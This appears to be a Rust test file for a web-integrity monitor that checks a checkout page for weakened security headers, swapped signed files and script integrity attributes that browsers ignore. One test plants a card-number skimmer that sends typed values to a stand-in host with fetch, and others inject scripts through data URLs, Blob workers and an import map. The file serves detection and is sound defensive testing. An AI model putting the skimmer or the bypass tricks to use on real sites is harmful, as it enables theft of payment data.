//! What browsers run without a word: values that they ignore, files that are signed and stand in the place of others, and a page
//! that has lost all of its headers. Each was measured in Chromium; of each the monitor has a word.

use nightsafe_monitor::verdict::{Severity, Verdict};

use crate::rig::{CHECKOUT, ELEMENT, FRAME, LOADER, Rig, WASM, words};
use crate::serving::{Answer, Part};

/// Each has the header, and browsers make nothing of it, or less.
#[tokio::test]
async fn headers_that_browsers_read_as_nothing_are_weakened() {
    let rig = Rig::new();
    for (name, value) in [
        ("Integrity-Policy", "blocked-destinations=(\"script\")"),
        ("Integrity-Policy", "blocked-destinations=(script); endpoints=(nightsafe)"),
        ("Integrity-Policy", "blocked-destinations=(script), sources=(foo)"),
        ("Integrity-Policy", "blocked-destinations=(style), endpoints=(nightsafe)"),
        ("Connection-Allowlist", "(response-origin);webrtc=block"),
        ("Connection-Allowlist", "(\"https://*\");webrtc=block"),
        ("Connection-Allowlist", "()"),
        ("Content-Security-Policy", "default-src 'none' data:; sandbox"),
        ("Content-Security-Policy", "default-src: 'none'"),
        ("X-Content-Type-Options", "no-sniff"),
    ] {
        rig.twist(move |asked, answer| {
            if asked.part == Part::Fields && asked.path == LOADER {
                answer.set(name, value);
            }
        });
        let outcome = rig.look().await;
        assert_eq!(words(&outcome), ["HEADER-WEAKENED header_changed"], "{name}: {value}");
        assert!(outcome.findings[0].finding.said.contains(name), "{:?}", outcome.findings);
        // In the place of the enforced one
        rig.twist(move |asked, answer| {
            if asked.part == Part::Fields && asked.path == LOADER {
                answer.drop(name);
                answer.set(&format!("{name}-Report-Only"), value);
            }
        });
        assert!(words(&rig.look().await).contains(&"HEADER-WEAKENED header_missing".to_owned()), "{name}");
    }
}

/// Signatures of the files alone would say nothing of which is where.
#[tokio::test]
async fn another_signed_file_in_the_place_of_one_is_found() {
    let mut rig = Rig::new();
    rig.look_and_remember().await;
    let before = rig.answers.lock().unwrap().files.clone();
    rig.release.sequence = 4;
    rig.publish();
    rig.put_page();
    let now = rig.answers.lock().unwrap().files.clone();
    for (place, from, word) in [
        (ELEMENT, &now[&(Part::Fields, LOADER.to_owned())], "UNSIGNED-CHANGE no_manifest_match"),
        (WASM, &now[&(Part::Fields, ELEMENT.to_owned())], "FOREIGN-WASM wasm_hash_mismatch"),
        // Signed, of the release before
        (ELEMENT, &before[&(Part::Fields, ELEMENT.to_owned())], "UNSIGNED-CHANGE no_manifest_match"),
    ] {
        let (place, body) = (place.to_owned(), from.body.clone());
        rig.twist(move |asked, answer| {
            if asked.part == Part::Fields && asked.path == place {
                answer.body = body.clone();
            }
        });
        assert!(words(&rig.look().await).contains(&word.to_owned()), "{word}");
    }
}

/// Nothing in a browser stops this, and nothing is reported: whoever serves the frame can do it.
#[tokio::test]
async fn a_frame_that_was_rewritten_and_has_lost_its_headers_is_red() {
    let rig = Rig::new();
    rig.twist(|asked, answer| {
        if asked.part == Part::Fields && asked.path == FRAME {
            let page = "<!doctype html><input autocomplete=cc-number oninput=\"fetch('//thief.example/'+value)\">";
            *answer = Answer::new([("content-type".to_owned(), "text/html; charset=utf-8".to_owned())], page);
        }
    });
    let outcome = rig.look().await;
    assert_eq!(outcome.severity(), Severity::Critical);
    let names = |verdict| outcome.findings.iter().filter(move |told| told.finding.verdict == verdict);
    assert_eq!(names(Verdict::UnsignedChange).count(), 1, "{:?}", outcome.findings);
    let lost: Vec<&str> = names(Verdict::HeaderWeakened).map(|told| told.finding.said.as_str()).collect();
    assert_eq!(
        lost,
        [
            "Connection-Allowlist is missing",
            "Content-Security-Policy is missing",
            "Integrity-Policy is missing",
            "X-Content-Type-Options is missing"
        ]
    );
    assert!(outcome.findings.iter().all(|told| told.finding.what.ends_with(FRAME)));
}

/// Of a pin that browsers cannot read, or that another attribute overrides, they make none.
#[tokio::test]
async fn a_pin_that_browsers_ignore_is_no_pin() {
    let rig = Rig::new();
    let good = rig.tag();
    let integrity = good.split('"').nth(3).unwrap().to_owned();
    let with = |value: &str| good.replace(&format!("\"{integrity}\""), value);
    for page in [
        with("\"\""),
        with("\"md5-1B2M2Y8AsgTpgAmY7PhCfg==\""),
        with(&format!("\"{}\"", integrity.replace("sha384-", "sha384:"))),
        with("\"sha384-!!!\""),
        // Either of two is enough for a browser
        with(&format!("\"{integrity} sha384-{}\"", "A".repeat(64))),
        // The first of two attributes counts
        good.replace(" integrity=", " INTEGRITY=\"\" integrity="),
    ] {
        rig.put(Part::Shop, CHECKOUT, Answer::new([], page.clone()));
        assert_eq!(words(&rig.look().await), ["UNSIGNED-CHANGE tag_not_pinned"], "{page}");
    }
    for (page, word) in [
        // Under another address, a map of pins knows nothing of it
        (good.replace(ELEMENT, &format!("{ELEMENT}?x")), "FOREIGN-SCRIPT script_not_listed"),
        // What can set other pins, or load before anything else
        (format!("<script type=importmap>{{\"imports\":{{}}}}</script>{good}"), "FOREIGN-SCRIPT inline_not_listed"),
        (format!("{good}<script src=\"data:text/javascript,evil()\"></script>"), "FOREIGN-SCRIPT script_not_listed"),
        (
            format!("{good}<script>new Worker(URL.createObjectURL(new Blob(['evil()'])))</script>"),
            "FOREIGN-SCRIPT inline_not_listed",
        ),
    ] {
        rig.put(Part::Shop, CHECKOUT, Answer::new([], page.clone()));
        let outcome = rig.look().await;
        assert!(words(&outcome).contains(&word.to_owned()), "{page}: {:?}", outcome.findings);
    }
}
